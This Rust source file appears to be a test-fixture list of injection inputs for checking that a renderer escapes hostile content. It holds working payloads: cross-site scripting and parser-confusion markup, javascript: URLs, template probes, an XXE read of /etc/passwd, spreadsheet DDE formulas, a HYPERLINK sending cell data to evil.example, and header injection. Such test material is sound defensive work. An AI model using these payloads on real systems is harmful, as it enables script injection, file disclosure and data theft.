//! What someone might type who wants something to run, to break, or to be added. `{m}` is a mark that
//! tells one key's words from another's. `pwned` is what would run, `x-evil` an element or an attribute
//! that would be made, `evil.example` a host that would be asked.

/// Words for each key.
pub(super) struct Attack {
    /// What it is called, as a folder can be.
    pub(super) name: &'static str,
    /// The words, which keys take in turn.
    pub(super) words: &'static [&'static str],
}

/// Words that want nothing: what the others are compared with.
pub(super) const CALM: Attack = Attack { name: "calm", words: &["{m} words of no harm {m}"] };

/// Words that would make elements and run, in as many ways as a parser can be brought out of step;
/// that would be an address, a template, a formula, a line; and that cannot be seen.
pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "markup",
        words: &[
            "{m}\"'><script>pwned()</script><script src=//evil.example/x.js></script><img src=x onerror=pwned()><x-evil onfocus=pwned() autofocus tabindex=0>{m}</title></style></textarea></script></noscript></template></select></svg>--></x-evil>]]><script>pwned()</script><x-evil>{m}",
            "{m}</style><style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>;background:url(//evil.example/x);@import '//evil.example/x';width:expression(pwned())<base href=//evil.example/><meta http-equiv=refresh content=\"0;url=//evil.example/\"><form action=//evil.example/><input name=q></form><iframe src=//evil.example/></iframe></main></body></html><x-evil>{m}",
        ],
    },
    Attack {
        name: "attribute",
        words: &[
            "{m}\" onmouseover=\"pwned()\" onfocus=\"pwned()\" autofocus=\"\" style=\"background:url(//evil.example/x)\" srcdoc=\"<script>pwned()</script>\" x-evil=\"{m}",
            "{m}' onmouseover='pwned()' onfocus='pwned()' autofocus style='background:url(//evil.example/x)' x-evil='` x-evil=` {m}",
        ],
    },
    Attack {
        name: "out-of-step",
        words: &[
            "{m}<svg onload=pwned()><script>pwned()</script><animate onbegin=pwned() attributeName=x dur=1s /><use href=\"data:image/svg+xml,<svg id=x onload=pwned()>#x\"/><foreignObject><iframe srcdoc=\"<script>parent.pwned()</script>\"></iframe></foreignObject></svg>{m}",
            "{m}<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=pwned()&gt;\"><noscript><p title=\"</noscript><img src=x onerror=pwned()>\"><plaintext>{m}",
        ],
    },
    Attack {
        name: "address",
        words: &[
            "javascript:pwned()//{m}",
            " JaVa\tScRiPt:pwned()//{m}",
            "java&#10;script&colon;pwned() &#x6A;avascript&#58;pwned()//{m}",
            "\u{1}java\nscript\n:pwned()//{m}",
            "vbscript:pwned(){m}",
            "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+{m}",
            "//evil.example/{m}",
        ],
    },
    Attack {
        name: "template",
        words: &[
            "{m}{{ 7 * 7 }}{{ site }}{% include \"pwned\" %}{# gone #}{% raw %}{{ <pwned /> }}{% endraw %}${7*7}#{7*7}<%= 7*7 %>{ $pwned }{m}",
        ],
    },
    Attack {
        name: "data",
        words: &[
            "{m}]]></content></summary></entry><entry><id>x-evil</id></entry><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;<?php pwned() ?>{m}",
            "{m}\"}]}</script><script>pwned()</script>\\\",\\u0022x-evil\\u0022:\u{2028}\u{2029}'+pwned()+'`${pwned()}`{m}",
            "{m}&lt;script&gt;pwned()&lt;/script&gt;&#60;x-evil&#62;&amp;lt;x-evil&amp;gt;&Tab;&NewLine;&nbsp;&#x110000;{m}",
        ],
    },
    Attack {
        name: "unseen",
        words: &[
            "{m} \u{202E}dnuora\u{2066}\u{2067}\u{2068}\u{202B}\u{200F}\u{200B} {m}",
            "{m}\u{1}\u{7}\u{1B}[31mred\u{9B}m\u{8}\u{7F}\u{85}{m}",
        ],
    },
    Attack {
        name: "formula",
        words: &[
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")+cmd|' /C calc'!A0{m}",
            "+1+cmd|' /C calc'!A0{m}",
            "-1+cmd|' /C calc'!A0{m}",
            "@SUM(1+1)*cmd|' /C calc'!A0{m}",
            "\t=1+cmd|' /C calc'!A0{m}",
            "\r\n=1+cmd|' /C calc'!A0\n=2+cmd|' /C calc'!A0{m}",
        ],
    },
    Attack {
        name: "lines",
        words: &[
            "{m}\r\nBEGIN:VEVENT\r\nUID:pwned\r\nX-EVIL:1\r\nATTENDEE:mailto:pwned@evil.example\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n\r\nX-Evil: 1\rX-EVIL:2\n  X-Evil: 3\u{85}X-EVIL:4\u{2028}X-EVIL:5\\nX-EVIL:6\\r\\nX-EVIL:7{m}",
        ],
    },
];
